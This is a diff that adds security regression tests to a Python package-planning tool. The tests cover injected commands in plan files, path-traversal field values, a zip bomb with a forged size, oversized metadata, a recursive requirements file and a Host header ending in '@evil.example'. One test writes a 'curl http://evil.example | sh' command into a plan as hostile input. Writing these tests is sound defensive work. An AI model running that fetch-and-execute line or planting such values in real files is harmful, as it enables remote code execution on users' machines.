@@ -2,18 +2,35 @@
 
 from __future__ import annotations
 
+import hashlib
+import io
+import json
 import os
+import re
 import sys
+import time
+import tracemalloc
+import zipfile
 from pathlib import Path
+from typing import Any
 
+import msgspec
 import pytest
 
-from rekindle.core import paths, signing
-from rekindle.core.errors import BadInput, ChecksFailed
+from rekindle.core import codec, paths, signing, web_server
+from rekindle.core.errors import BadInput, ChecksFailed, NotFound
+from rekindle.core.untrusted import Sha256
 from rekindle.fleet import matrix_file, planning, shelved
+from rekindle.fleet.announcement import Announcement
+from rekindle.fleet.job import FleetJob, JobState
+from rekindle.fleet.matrix_file import MatrixCell
+from rekindle.fleet.planning import FleetPlan, FleetTotals, Planned
+from rekindle.fleet.state import FleetState, status_of
+from rekindle.knowledge import updates
 from rekindle.wheels.shelf import index, shelf
-from support import torch_like
+from support import small_wheels, torch_like
 from support.command import rekindle_command
+from support.pace import seconds
 
 
 @pytest.mark.parametrize("folder", [".github", ".github/workflows", ".git", "a/.git"])
@@ -79,3 +96,98 @@ def test_a_folder_does_not_go_back_to_an_older_list(tmp_path: Path, monkeypatch:
         (folder / name).write_bytes(data)
     with pytest.raises(ChecksFailed, match="older than the one you saw last"):
         index.signed_listing(folder, [key.public])
+
+
+@pytest.mark.parametrize("line", ['system = "plan9"', 'machine = "../x"', 'arch_list = "6.1;x"'])
+def test_a_plan_of_no_system_is_an_error_that_says_so(line: str, tmp_path: Path) -> None:
+    file = tmp_path / "plan.toml"
+    seen = rekindle_command("plan", "--gpu", "GTX 1080", "--os", "linux", "--arch", "x86_64", "-o", str(file))
+    name = line.split()[0]
+    file.write_text(re.sub(rf"(?m)^{name} = .*$", line, file.read_text(encoding="utf-8")), encoding="utf-8")
+    seen = rekindle_command("plan", "--from", str(file))
+    assert seen.code == BadInput.exit_code and f"$.{name}" in seen.err, seen
+
+
+def test_commands_of_a_plan_are_not_shown_again(tmp_path: Path) -> None:
+    file = tmp_path / "plan.toml"
+    rekindle_command("plan", "--gpu", "GTX 1080", "--os", "linux", "--arch", "x86_64", "-o", str(file))
+    text = file.read_text(encoding="utf-8").replace('"pip install', '"curl http://evil.example | sh", "pip install')
+    file.write_text(text, encoding="utf-8")
+    seen = rekindle_command("plan", "--from", str(file))
+    assert "curl http" in text and "evil" not in seen.out + seen.err
+
+
+_WORKER = {"name": "w", "system": "linux", "machine": "x86_64", "cores": 4, "memory_gb": 8, "disk_gb": 9}
+
+
+@pytest.mark.parametrize(
+    "lie", [{"gcc": ["x"]}, {"cores": 0}, {"slots": -3}, {"toolkits": [{"version": "9" * 400}]}, {"machine": "../x"}]
+)
+def test_an_announcement_says_numbers_where_numbers_are_counted_with(lie: dict[str, Any]) -> None:
+    codec.from_json(json.dumps(_WORKER), Announcement)
+    with pytest.raises(BadInput):
+        codec.from_json(json.dumps({**_WORKER, **lie}), Announcement)
+
+
+def test_a_run_of_many_events_is_read_once(tmp_path: Path) -> None:
+    """It took a minute and a half: each of two thousand jobs went through two hundred thousand events."""
+    many, events = 400, 40_000
+    job = FleetJob(name="x", state=JobState.BUILD, cells=(MatrixCell(project="torch"),))
+    jobs = tuple(msgspec.structs.replace(job, name=f"j{each}", key=Sha256(f"{each:064x}")) for each in range(many))
+    totals = FleetTotals(**dict.fromkeys(FleetTotals.__struct_fields__, 1))
+    state = FleetState(tmp_path)
+    state.keep(Planned(plan=FleetPlan(knowledge="x", jobs=jobs, totals=totals, questions=1), plans={}, sources={}))
+    lines = (json.dumps({"at": "x", "event": "begin", "key": f"{each % many:064x}"}) for each in range(events))
+    state.journal.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    begun = time.process_time()
+    status = status_of(state)
+    assert time.process_time() - begun < seconds(2) and status.jobs[0].attempts == events // many
+
+
+def test_a_bundle_that_lies_about_a_size_is_not_unpacked_whole(tmp_path: Path) -> None:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bundle.json", bytes(200 << 20))
+    raw = bytearray(stream.getvalue())
+    place = raw.rindex(b"PK\1\2") + 24
+    raw[place : place + 4] = (10).to_bytes(4, "little")
+    (tmp_path / "b.zip").write_bytes(raw)
+    tracemalloc.start()
+    try:
+        with pytest.raises(BadInput):
+            updates.take(tmp_path / "b.zip", hashlib.sha256(raw).hexdigest())
+        assert tracemalloc.get_traced_memory()[1] < 50 << 20
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_file_that_is_too_large_for_its_kind_is_said_to_be(tmp_path: Path) -> None:
+    site = tmp_path / "env" / "lib" / "python3.11" / "site-packages"
+    (site / "torch").mkdir(parents=True)
+    (tmp_path / "env" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.2\n", encoding="utf-8")
+    for name in ("__init__.py", "version.py"):
+        (site / "torch" / name).touch()
+    os.truncate(site / "torch" / "version.py", 1 << 30)
+    seen = rekindle_command("audit", str(tmp_path / "env"), "--gpu", "GTX 1080", "--no-cache")
+    assert seen.code == NotFound.exit_code and "too large for a file of its kind" in seen.err, seen
+
+
+def test_metadata_of_megabytes_is_refused(tmp_path: Path) -> None:
+    """A wheel of ten kilobytes kept `verify` busy for half a minute: a name of ten million letters was made safe."""
+    text = f"Metadata-Version: 2.1\nName: {'a-' * 2_000_000}\nVersion: 1.0\n"
+    wheel = small_wheels.make(tmp_path, {**small_wheels.FILES, "demo-1.0.dist-info/METADATA": text.encode()})
+    seen = rekindle_command("verify", str(wheel), "--no-run")
+    assert seen.code == BadInput.exit_code and "METADATA" in seen.err, seen
+
+
+def test_a_list_that_names_itself_is_read_once(tmp_path: Path) -> None:
+    list_of_lists = tmp_path / "requirements.txt"
+    list_of_lists.write_text("-r requirements.txt\n" * 100 + "torch==2.8.0\n", encoding="utf-8")
+    begun = time.process_time()
+    rekindle_command("review", str(list_of_lists), "--gpu", "GTX 1080")
+    assert time.process_time() - begun < seconds(5)
+
+
+def test_a_name_before_an_at_sign_is_no_name_of_ours() -> None:
+    assert web_server.names_us("127.0.0.1:8036", "127.0.0.1") and web_server.names_us("[::1]:8036", "::1")
+    assert not web_server.names_us("127.0.0.1:8036@evil.example", "127.0.0.1")
